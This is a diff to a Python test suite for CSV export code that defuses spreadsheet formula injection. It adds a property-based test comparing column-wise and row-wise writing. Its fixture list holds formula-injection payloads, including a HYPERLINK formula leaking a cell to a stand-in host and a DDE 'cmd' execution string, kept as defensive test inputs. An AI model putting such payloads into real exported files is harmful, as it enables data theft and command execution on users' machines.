@@ -4,10 +4,12 @@ import csv
 import io
 import json
 
+import hypothesis
 import pytest
+from hypothesis import strategies
 
 from bert_tf.report.page import SHARED_SCRIPTS
-from bert_tf.spreadsheets import defused, write_csv
+from bert_tf.spreadsheets import defused, write_csv, write_csv_columns
 
 COMPUTED = [
     '=HYPERLINK("http://example.org/?"&A1)', "=1+1", "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1", "\n=1",
@@ -43,3 +45,21 @@ def test_the_pages_write_the_same(page):
     file = io.StringIO(newline="")
     write_csv(file, rows)
     assert page.evaluate(f"csv({json.dumps(rows)})") == file.getvalue()
+
+
+CELLS = strategies.one_of(
+    strategies.text('=+-@\t\r\n＝a1", é', max_size=4), strategies.floats(), strategies.integers(), strategies.none()
+)
+
+
+@hypothesis.given(
+    rows=strategies.lists(strategies.tuples(CELLS, CELLS), max_size=9),
+    delimiter=strategies.sampled_from(",\t;"),
+    raw=strategies.booleans(),
+)
+def test_columns_are_written_as_their_rows_are(rows, delimiter, raw):
+    by_rows, by_columns = io.StringIO(newline=""), io.StringIO(newline="")
+    changed = write_csv(by_rows, rows, delimiter=delimiter, raw=raw)
+    columns = [[row[place] for row in rows] for place in range(2)]
+    assert write_csv_columns(by_columns, columns, delimiter=delimiter, raw=raw) == changed
+    assert by_columns.getvalue() == by_rows.getvalue()
